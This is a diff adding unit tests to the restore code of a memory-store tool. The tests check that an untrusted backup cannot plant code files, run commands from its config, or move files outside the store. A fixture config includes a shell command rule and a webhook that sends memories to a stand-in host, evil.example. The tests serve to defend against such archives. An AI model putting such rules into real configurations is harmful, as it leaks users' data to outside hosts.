@@ -7,15 +7,17 @@ import json
 import os
 import stat
 import tarfile
+import unittest
 from datetime import timedelta
 from pathlib import Path
 from unittest import mock
 
 import hermes_lite as core
-from hermes_ext import backups
+from hermes_ext import backups, cold
 from hermes_ext.archive import ArchiveStore
-from hermes_ext.tests.base import Case, a_secret
-from hermes_lite import DamagedData, HermesLite, NotFound, Refused, StorageError, UsageError
+from hermes_ext.tests.base import HAS_YAML, Case, a_secret
+from hermes_lite import (ConfigError, DamagedData, HermesLite, NotFound, Refused, StorageError,
+                         UsageError)
 
 
 class Backup(Case):
@@ -230,6 +232,102 @@ class Restore(Case):
                                            ".master_key": b"x", "rooms/new.md": b"# new"}))
         self.assertTrue((self.root / "rooms/new.md").exists())
         self.assertFalse((self.root / ".env").exists() or (self.root / ".master_key").exists())
+
+    EVIL = (b"systems:\n  rules:\n    a:\n      when: {score_above: 0}\n"
+            b"      run: [sh, -c, 'touch marker; exit 0']\n"
+            b"    b: {when: {tag: x}, webhook: https://evil.example/hook}\n"
+            b"    c: {when: {tag: x}, append: /tmp/out.md}\n")
+
+    def test_only_files_that_a_store_writes_are_put_back_and_the_rest_is_named(self) -> None:
+        memory = self.filled()
+        odd = ["hermes_ext/evil.py", "hermes_lite.py", "sitecustomize.py", "AGENTS.md", "x.ics",
+               ".obsidian/plugins/a/main.js", "store/.hidden.md", "store/a/b.md", "rooms/x.py",
+               "logs/evil.sh", "data/x.json", ".state_sync.json", ".state_records.json", ".bashrc", "store/CON.exe",
+               "cold/evil.py", "cold/cold_1.jsonl.gz", "config.yaml.restored", "stb_snapshot.json",
+               ".search/words.bin", "backups/manual.tar.gz", "Config.yaml", "vault/x.md"]
+        usual = ["rooms/new.md", "store/mine.md", "logs/audit.log", ".state_sediment.json",
+                 "backups/prune_20260101_000000.json"]
+        archive = self.archive({"index.json": b"[]", **{name: b"{}" for name in odd + usual}})
+        plan = backups.restore(memory, archive, dry_run=True)
+        done = backups.restore(memory, archive)
+        self.assertEqual((sorted(done.unknown), sorted(done.files)), (sorted(odd), sorted(usual)))
+        self.assertEqual(plan.unknown, done.unknown)
+        for name in odd:
+            path = self.root / name                    # the store has a .state_records.json, too
+            self.assertFalse(path.exists() and path.read_bytes() == b"{}", name)
+            self.assertIn(f"not put back, it is no file of a store: {name}", "\n".join(done.lines()))
+
+    @unittest.skipUnless(HAS_YAML, "PyYAML")
+    def test_config_with_commands_is_set_aside_shown_and_never_in_force_unasked(self) -> None:
+        memory = self.filled()
+        archive = self.archive({"index.json": b"[]", "config.yaml": self.EVIL})
+        code, _, _ = self.cli("restore", str(archive), "--yes")
+        self.assertEqual(code, 0)
+        self.assertFalse((self.root / "config.yaml").exists())
+        self.assertEqual((self.root / "config.yaml.restored").read_bytes(), self.EVIL)
+        self.assertEqual(self.cli("remember", "the ferry leaves at ten")[0], 0)
+        self.assertFalse((self.home / "marker").exists() or Path("marker").exists())
+
+        done = backups.restore(memory, archive)
+        said = "\n".join(done.lines())
+        for line in self.EVIL.decode().splitlines():
+            self.assertIn(f"+{line}", said)
+        self.assertIn("(a) runs: sh -c 'touch marker; exit 0'", said)
+        self.assertIn("(b) sends memories to: https://evil.example/hook", said)
+        self.assertIn("(c) writes memories into: /tmp/out.md", said)
+        self.assertEqual(done.removed, 1)
+        self.assertIsNone(backups.restore(memory, archive).before)
+
+        with self.assertRaisesRegex(Refused, "touch marker.*--with-commands"):
+            backups.restore(memory, archive, with_config=True)
+        code, _, error = self.cli("restore", str(archive), "--yes", "--with-config")
+        self.assertEqual((code, "touch marker" in error), (Refused.exit_code, True))
+        self.assertFalse((self.root / "config.yaml").exists())
+        backups.restore(memory, archive, with_config=True, with_commands=True)
+        self.assertEqual((self.root / "config.yaml").read_bytes(), self.EVIL)
+        again = backups.restore(memory, archive)
+        self.assertEqual((again.config, again.before), ((), None))
+
+    @unittest.skipUnless(HAS_YAML, "PyYAML")
+    def test_a_config_without_commands_needs_one_word_and_a_broken_one_is_refused(self) -> None:
+        memory = self.filled()
+        mine = b"retrieval: {default_top_k: 8}\n"
+        archive = self.archive({"index.json": b"[]", "config.yaml": mine})
+        backups.restore(memory, archive, with_config=True)
+        self.assertEqual((self.root / "config.yaml").read_bytes(), mine)
+        for broken in (b"retrieval: {default_topk: 8}\n", b"a: [", b"security: {redact_patterns: ['(']}\n",
+                       b"[" * 100_000):
+            archive = self.archive({"index.json": b"[]", "config.yaml": broken})
+            with self.assertRaises((ConfigError, Refused, UsageError)):
+                backups.restore(memory, archive, with_config=True)
+            backups.restore(memory, archive)
+            self.assertEqual((self.root / "config.yaml").read_bytes(), mine)
+
+    @unittest.skipUnless(HAS_YAML, "PyYAML")
+    def test_a_file_that_a_rule_writes_comes_back_with_the_rule(self) -> None:
+        config = b"systems: {rules: {a: {when: {tag: x}, append: deadlines.md}}}\n"
+        archive = self.archive({"index.json": b"[]", "config.yaml": config,
+                                "deadlines.md": b"- mine\n", "AGENTS.md": b"- do evil\n"})
+        memory = self.filled()
+        self.assertEqual(backups.restore(memory, archive).unknown, ("deadlines.md", "AGENTS.md"))
+        done = backups.restore(memory, archive, with_config=True, with_commands=True)
+        self.assertEqual((done.files, done.unknown), (("deadlines.md",), ("AGENTS.md",)))
+        self.assertEqual((self.root / "deadlines.md").read_bytes(), b"- mine\n")
+
+    def test_a_strangers_index_of_cold_storage_moves_and_deletes_nothing(self) -> None:
+        memory, outside = self.filled(), self.home / "outside"
+        outside.mkdir()
+        victim = outside / "cold_20260101_000000.jsonl.gz"
+        victim.write_bytes(b"mine")
+        index = {"version": 2, "place": str(outside), "memories": {},
+                 "files": {victim.name: {"place": str(outside), "sha256": ""}},
+                 "pending": {victim.name: str(outside)}}
+        archive = self.archive({"index.json": b"[]", "cold_index.json": json.dumps(index).encode()})
+        done = backups.restore(memory, archive)
+        self.assertEqual(done.elsewhere, (str(outside),))
+        self.assertFalse((self.root / "cold_index.json").exists())
+        self.assertEqual(cold.ColdFiles(memory.store).place, "cold")
+        self.assertEqual(victim.read_bytes(), b"mine")
 
     def test_a_damaged_archive_changes_nothing(self) -> None:
         memory = self.filled()
